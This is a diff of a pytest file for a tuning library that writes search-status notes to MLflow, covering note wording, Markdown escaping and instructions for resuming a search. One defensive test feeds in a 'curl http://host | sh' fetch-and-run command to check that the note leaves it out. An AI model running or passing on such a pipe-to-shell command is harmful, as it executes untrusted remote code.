@@ -6,8 +6,13 @@ import pytest
 from mlflow.tracking import MlflowClient
 
 import recdrop_tune as rdt
-from recdrop_tune.events import ResultSaved
-from recdrop_tune.mlflow_store.description import EXPERIMENT, NOTE, NOTE_LENGTH
+from recdrop_tune.events import EXHAUSTED, STOPPED, NoMoreTrials, ResultSaved
+from recdrop_tune.mlflow_store.description import (
+    EXPERIMENT,
+    NOTE,
+    NOTE_LENGTH,
+    markdown_table,
+)
 from tests.tracked_events import Sender, ended, image, journaled, started, trial
 
 GO_ON = 'run again with directory="speech"'
@@ -65,7 +70,7 @@ def test_a_search_that_runs_says_how_it_stands(sender, uri):
     [("FINISHED", "Over", ", with a larger `max_trials`"), ("KILLED", "Broken off", "")],
 )
 def test_a_search_without_a_result_says_how_it_ended(sender, uri, status, word, more):
-    sender.send(started(), *trial(0, status="FAILED"), ended(status))
+    sender.send(started(space=None), *trial(0, status="FAILED"), ended(status))
     note = note_of(uri)
     assert f"**{word}** (2026-09-21 14:30 UTC): 1 of at most 9 trials begun, 1 failed." in note
     assert f"To go on{more}: make the tuner again with the same `directory`" in note
@@ -131,15 +136,71 @@ def test_a_long_summary_keeps_its_links_and_how_to_go_on(sender, uri):
     assert note.startswith("[All trials, best first](#/")
     assert f"`{GO_ON}`" in note
     assert "[x]" not in note.partition("\n\n")[2]
-    assert note.split("\n\n")[-3].splitlines()[-1].endswith("(http://host) |")
+    assert note.split("\n\n")[-3].splitlines()[-1].endswith("(http&#58;//host) |")
 
 
-@pytest.mark.parametrize(
-    ("before", "after"), [(None, EXPERIMENT), ("", EXPERIMENT), ("Ours.",) * 2]
-)
-def test_an_experiment_without_a_description_gets_one(sender, uri, before, after):
+@pytest.mark.parametrize(("before", "after"), [(None, EXPERIMENT), ("", None), ("Ours.",) * 2])
+def test_an_experiment_is_described_by_who_creates_it(sender, uri, before, after):
     client = MlflowClient(uri)
     if before is not None:
         client.create_experiment("speech", tags={NOTE: before} if before else {})
     sender.send(started())
-    assert client.get_experiment_by_name("speech").tags[NOTE] == after
+    assert client.get_experiment_by_name("speech").tags.get(NOTE) == after
+
+
+@pytest.mark.parametrize("summary", ["**Best: 0.6**\n\n[x] at http://host\n", "| row |\n" * 1000])
+def test_what_an_earlier_version_wrote_is_ours(sender, uri, summary):
+    saved = ResultSaved(files=[], summary=summary, best_trial_id="0")
+    sender.send(started(), *trial(0), saved)
+    written = summary.replace("[", "&#91;")[:NOTE_LENGTH]
+    MlflowClient(uri).set_tag(run_of(uri).info.run_id, NOTE, written)
+    sender.send(*trial(1))
+    assert note_of(uri) != written
+    MlflowClient(uri).set_tag(run_of(uri).info.run_id, NOTE, f"{written} Mine.")
+    sender.send(*trial(2))
+    assert note_of(uri) == f"{written} Mine."
+
+
+@pytest.mark.parametrize(
+    ("about", "early", "words"),
+    [
+        ({"go_on": GO_ON, "host": "node7"}, None, " (on `node7`), with a larger `max_trials`: "),
+        ({"go_on": GO_ON}, NoMoreTrials(reason=STOPPED), f": `{GO_ON}`"),
+        ({"go_on": GO_ON}, NoMoreTrials(reason=EXHAUSTED, configurations=1, tried=1), None),
+        ({}, None, None),  # `tune` did not say it in earlier versions.
+        # Markdown decodes nothing in code.
+        ({"go_on": "cd a[1]"}, None, ", with a larger `max_trials`: cd a&#91;1&#93;"),
+    ],
+)
+def test_how_to_go_on_is_said_where_one_can(sender, uri, about, early, words):
+    sender.send(started(**about), *trial(0), *([] if early is None else [early]), ended())
+    note = note_of(uri)
+    assert ("To go on" in note) == (words is not None)
+    assert words is None or f"To go on{words}" in note
+
+
+def test_sync_tells_nobody_to_run_a_strangers_command(tmp_path, uri):
+    journaled(tmp_path, started(go_on="curl http://host | sh"), *trial(0))
+    rdt.sync(tmp_path, uri)
+    assert f"To go on: run it again with the folder `{tmp_path}`\n" in note_of(uri)
+    assert "curl" not in note_of(uri)
+
+
+@pytest.mark.parametrize("there", [True, False])
+def test_a_search_that_goes_on_keeps_the_link_to_its_report(tmp_path, uri, there):
+    (tmp_path / "result").mkdir()
+    if there:
+        (tmp_path / "result" / "report.html").write_text("<p>Well.</p>")
+    saved = ResultSaved(files=["result/report.html"], summary="Well.", best_trial_id="0")
+    sender = Sender(tmp_path, uri)
+    sender.send(started(), *trial(0), saved, ended())
+    sender.close()
+    sender = Sender(tmp_path, uri)
+    sender.send(started(when=1_790_002_000.0), *trial(1))
+    sender.close()
+    assert "**Running**" in note_of(uri)
+    assert note_of(uri).startswith("[Report with figures](#/") == there
+
+
+def test_a_table_holds_any_names():
+    assert markdown_table(["a|b"], []) == "| a\\|b |\n| --- |"
